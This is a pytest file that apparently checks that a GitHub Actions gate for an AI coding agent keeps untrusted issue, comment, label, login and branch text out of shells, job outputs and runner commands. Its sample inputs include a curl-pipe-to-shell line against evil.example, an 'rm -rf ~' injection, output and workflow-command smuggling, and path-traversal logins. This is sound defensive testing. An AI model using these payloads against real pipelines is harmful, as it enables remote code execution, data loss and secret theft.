"""Strangers' text reaches no shell, no output of a job, and no command of the runner."""

from __future__ import annotations

import pytest

from tests.agent.github.attacks.attack_repository import Done, Place

KNOWN = {"go", "reason", "base", "digest", "parent_run"}
SHELL = [
    "$(curl evil.example|sh)",
    "`id`; rm -rf ~ #",
    '"; echo go=true >> "$GITHUB_OUTPUT"; "',
    "${{ secrets.OPENAI_API_KEY }}",
    "::set-output name=go::true",
    "::add-mask::x\u2028::stop-commands::t",
]
LINES = [
    "x\ngo=true",
    "x\r\ngo=true\r\n",
    "x\nreason<<E\nE\ngo=true",
    "x\u2028go=true",
    "x\x85go=true",
    "x\n::error::y",
]


def clean(done: Done) -> None:
    """The file of outputs is what the gate meant, and the log has no commands."""
    assert set(done.outputs) <= KNOWN
    assert done.outputs["go"] in ("true", "false") if done.code == 0 else not done.went
    for line in (done.said + "\n" + done.summary).splitlines():
        assert not line.lstrip().startswith("::"), "no command for the runner"
        assert not line.startswith("##[")


@pytest.mark.parametrize("text", SHELL, ids=range(len(SHELL)))
def test_title_with_shell_text(place: Place, text: str) -> None:
    """Stopped by no output holding strangers' words: title and body are in the errand's file only."""
    issue = place.approved(title=text, body=text)
    done = place.gate("issues", place.labelled(issue))
    clean(done)
    assert done.went
    assert text not in done.raw + done.said


@pytest.mark.parametrize("text", LINES, ids=range(len(LINES)))
def test_body_with_lines_for_output(place: Place, text: str) -> None:
    """Stopped by no output holding strangers' words."""
    issue = place.approved(title="A title", body=text)
    comment = issue.comment("ada", f"/swe-agent fix {text}")
    clean(place.gate("issue_comment", place.commented(comment)))


@pytest.mark.parametrize("text", LINES, ids=range(len(LINES)))
def test_reason_that_names_strangers_thing(place: Place, text: str) -> None:
    """Stopped by one way to write an output, which takes no line ends; the label's name is a stranger's here."""
    event = place.labelled(place.approved(), "ada", "other")
    event["label"]["name"] = text
    done = place.gate("issues", event)
    clean(done)
    assert not done.went


@pytest.mark.parametrize("login", ["x\ngo=true", "../../user", "a/b", "$(id)", "ada/../mallory", "ada?x=", "ada#"])
def test_login_that_is_none(place: Place, login: str) -> None:
    """Stopped by a login's shape: it goes into the path of a request."""
    place.repo.permissions["ada"] = "write"
    event = place.labelled(place.approved(), "mallory")
    event["sender"]["login"] = login
    done = place.gate("issues", event)
    clean(done)
    assert not done.went
    assert place.written == []


@pytest.mark.parametrize(
    "branch",
    ["swe-agent/$(id)", "swe-agent/`id`", "swe-agent/x;id", "swe-agent/é", "swe-agent/a'b", 'swe-agent/"', "-x"],
    ids=range(7),
)
def test_branch_with_shell_text(place: Place, branch: str) -> None:
    """Stopped by the shape of our own branches, and by no output that holds one."""
    pull = place.pull()
    event = place.commented(pull.comment("ada", "/swe-agent again"))
    pull.head = branch
    done = place.gate("issue_comment", event)
    clean(done)
    assert branch not in done.raw


def test_body_of_summary(place: Place) -> None:
    """Stopped by the summary being text: no pictures and no markup of strangers in it."""
    issue = place.approved(title="![b](https://evil.example/b.png) <img src=https://evil.example/c.png>")
    done = place.gate("issues", place.labelled(issue))
    clean(done)
    assert "](https://evil" not in done.summary
    assert "<img" not in done.summary
